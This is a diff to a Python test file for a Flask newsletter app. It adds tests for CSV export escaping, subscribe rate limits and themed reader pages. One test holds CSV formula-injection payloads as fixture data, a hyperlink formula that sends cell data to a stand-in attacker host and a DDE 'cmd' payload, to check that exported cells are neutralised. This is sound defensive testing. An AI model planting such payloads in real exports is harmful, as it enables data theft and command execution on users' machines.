@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import re
 from typing import Any
 
 import pytest
@@ -9,11 +12,13 @@ from flask import Flask
 from sqlalchemy import func, select
 
 from broadsheet.accounts.permissions import OPERATOR
+from broadsheet.content.models import PostKind
 from broadsheet.errors import Invalid
 from broadsheet.extensions import db
-from broadsheet.newsletter import services
+from broadsheet.newsletter import roster, services
 from broadsheet.newsletter.models import Subscriber, SubscriberStatus
 from broadsheet.newsletter.tokens import Purpose, make_token
+from broadsheet.settings.services import update_site_settings
 from tests.conftest import NOW
 from tests.newsletter import link, make_subscriber, outbox
 
@@ -183,7 +188,7 @@ cat@example.com,unsubscribed,,old list
 def test_staff_import_a_csv_and_only_unconfirmed_addresses_get_a_confirmation(
     eager_app: Flask,
 ) -> None:
-    report = services.import_subscribers(db.session, actor=OPERATOR, text=IMPORT, now=NOW)
+    report = roster.import_subscribers(db.session, actor=OPERATOR, text=IMPORT, now=NOW)
     db.session.commit()
     assert (report.created, report.confirmations) == (3, 1)
     assert [m.to for m in outbox(eager_app)] == [["bob@example.com"]]
@@ -206,7 +211,7 @@ def test_staff_import_a_csv_and_only_unconfirmed_addresses_get_a_confirmation(
 )
 def test_an_import_with_a_bad_row_writes_nothing(eager_app: Flask, text: str, problem: str) -> None:
     with pytest.raises(Invalid) as raised:
-        services.import_subscribers(db.session, actor=OPERATOR, text=text, now=NOW)
+        roster.import_subscribers(db.session, actor=OPERATOR, text=text, now=NOW)
     fields = raised.value.fields
     assert problem in " ".join([*fields, *fields.values()])
     db.session.rollback()
@@ -218,7 +223,7 @@ def test_export_keeps_tags_and_status_and_imports_back_the_same(eager_app: Flask
     make_subscriber("ann@example.com", tags=["Python", "Flask"])
     make_subscriber("bob@example.com", status=SubscriberStatus.PENDING)
     make_subscriber("cat@example.com", status=SubscriberStatus.UNSUBSCRIBED)
-    exported = "".join(services.export_subscribers(db.session, actor=OPERATOR))
+    exported = "".join(roster.export_subscribers(db.session, actor=OPERATOR))
     assert exported.splitlines()[0] == "email,status,tags,consent,created_at,confirmed_at"
     before = {
         s.email: (s.status, sorted(t.name for t in s.tags))
@@ -226,10 +231,121 @@ def test_export_keeps_tags_and_status_and_imports_back_the_same(eager_app: Flask
     }
     db.session.execute(Subscriber.__table__.delete())
     db.session.commit()
-    services.import_subscribers(db.session, actor=OPERATOR, text=exported, now=NOW)
+    roster.import_subscribers(db.session, actor=OPERATOR, text=exported, now=NOW)
     db.session.commit()
     after = {
         s.email: (s.status, sorted(t.name for t in s.tags))
         for s in map(_subscriber, ["ann@example.com", "bob@example.com", "cat@example.com"])
     }
     assert after == before
+
+
+def test_export_cells_cannot_run_as_formulas_and_still_import_back(eager_app: Flask) -> None:
+    trap = '=hyperlink("http://evil.example/?"&a1)@x.io'
+    db.session.add_all(
+        [
+            Subscriber(email=trap, status=SubscriberStatus.CONFIRMED, created_at=NOW,
+                       confirmed_at=NOW, source="site", consent="+cmd|' /C calc'!A0"),
+            Subscriber(email="ann@example.com", status=SubscriberStatus.CONFIRMED,
+                       created_at=NOW, confirmed_at=NOW, source="site", consent="@sum(1+1)"),
+            Subscriber(email="bob@example.com", status=SubscriberStatus.PENDING, created_at=NOW,
+                       source="site", consent="'quoted already"),
+            Subscriber(email="cat@example.com", status=SubscriberStatus.PENDING, created_at=NOW,
+                       source="site", consent="\tTabbed -2"),
+        ]
+    )  # fmt: skip
+    db.session.commit()
+    exported = "".join(roster.export_subscribers(db.session, actor=OPERATOR))
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert f"'{trap}" in cells
+    assert "'+cmd|' /C calc'!A0" in cells
+
+    before = {s.email: s.consent for s in db.session.scalars(select(Subscriber))}
+    db.session.execute(Subscriber.__table__.delete())
+    db.session.commit()
+    roster.import_subscribers(db.session, actor=OPERATOR, text=exported, now=NOW)
+    db.session.commit()
+    after = {s.email: s.consent for s in db.session.scalars(select(Subscriber))}
+    # Every value comes back as it was, but for the tab the import trims as it always did.
+    assert after == {**before, "cat@example.com": "Tabbed -2"}
+
+
+def _subscribe_by_either_door(client: Any, n: int, email: str, ip: str) -> tuple[int, str]:
+    environ = {"REMOTE_ADDR": ip}
+    if n % 2:
+        api = client.post("/api/v1/subscribers/", json={"email": email}, environ_base=environ)
+        return api.status_code, api.text
+    site = client.post("/subscribe/", data={"email": email}, environ_base=environ)
+    return site.status_code, site.text
+
+
+@pytest.mark.parametrize("known", [False, True])
+def test_one_address_gets_at_most_three_subscribe_emails_a_day_whatever_door_or_ip(
+    eager_app: Flask, known: bool
+) -> None:
+    if known:
+        make_subscriber("target@example.com")
+    client = eager_app.test_client()
+    answers = [
+        _subscribe_by_either_door(client, n, "Target@Example.com", f"10.1.{n}.{int(known)}")
+        for n in range(5)
+    ]
+    mailed = [m for m in outbox(eager_app) if m.to == ["target@example.com"]]
+    assert len(mailed) == 3
+    # The reader sees the same friendly answer each time, at each door.
+    assert {answers[0], answers[2], answers[4]} == {answers[0]}
+    assert {answers[1], answers[3]} == {answers[1]}
+    assert answers[0][0] == 200
+    assert "Check your inbox" in answers[0][1]
+    assert answers[1][0] == 202
+
+
+def test_the_site_form_and_the_api_share_one_rate_limit_per_ip(eager_app: Flask) -> None:
+    client = eager_app.test_client()
+    answers = [
+        _subscribe_by_either_door(client, n, f"r{n}@example.com", "10.2.0.1")[0] for n in range(6)
+    ]
+    assert answers[:5] == [200, 202, 200, 202, 200]
+    assert answers[5] == 429
+
+
+def test_every_reader_page_wears_the_sites_theme_navigation_and_settings(
+    app: Flask, make_post: Any
+) -> None:
+    for title in ("About", "Colophon"):
+        make_post(title, kind=PostKind.PAGE)
+    make_post("On Python", tags=["Python"])
+    update_site_settings(
+        db.session, actor=OPERATOR, now=NOW, title="The Daily Test",
+        description="Tested daily.", timezone="UTC", posts_per_page=10,
+    )  # fmt: skip
+    db.session.commit()
+    reader = make_subscriber("reader@example.com")
+    client = app.test_client()
+    pages = {
+        "subscribe": client.get("/subscribe/"),
+        "refused": client.post("/subscribe/", data={"email": "nope"}),
+        "confirm": client.get(f"/subscribe/confirm/{_token(reader, Purpose.CONFIRM)}"),
+        "unsubscribe": client.get(f"/unsubscribe/{_token(reader, Purpose.UNSUBSCRIBE)}"),
+        "preferences": client.get(f"/preferences/{_token(reader, Purpose.PREFERENCES)}"),
+    }
+    for name, response in pages.items():
+        html = response.text
+        assert response.status_code in (200, 422), name
+        assert re.search(r'<nav class="site-nav"[^>]*>.*>About</a>.*>Colophon</a>', html, re.S), (
+            name
+        )
+        assert "The Daily Test</a>" in html, name  # the masthead reads the saved settings
+        assert "Tested daily." in html, name
+        assert "site.css" in html, name
+        assert 'class="post__title"' in html, name
+    subscribe = pages["subscribe"].text
+    assert '<form class="reader-form"' in subscribe
+    assert 'class="tag-choice"' in subscribe
+    assert 'class="button"' in subscribe
+    assert 'class="tag-choices"' in pages["preferences"].text
+
+
+def _token(subscriber: Subscriber, purpose: Purpose) -> str:
+    return make_token(SECRET, purpose, subscriber.id, subscriber.email)
